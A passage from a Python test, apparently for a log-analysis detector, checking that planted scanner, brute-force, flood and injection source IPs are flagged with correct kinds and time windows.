                            (planted.injection_ip, "injection", "injection")]:
        assert kind in found[ip]["kinds"], (ip, found.get(ip))
        first, last = windows[actor]
        assert abs(found[ip]["first_seen_at"] - first) < timedelta(seconds=1)
        assert abs(found[ip]["last_seen_at"] - last) < timedelta(seconds=1)
    others = set(found) - {planted.scanner_ip, planted.bruteforce_ip, planted.flood_ip, planted.injection_ip}
    assert len(others) <= 2, others  # the TLS handshake on port 80 is an odd method
    assert not set(planted.ipv6_ips) & set(found)
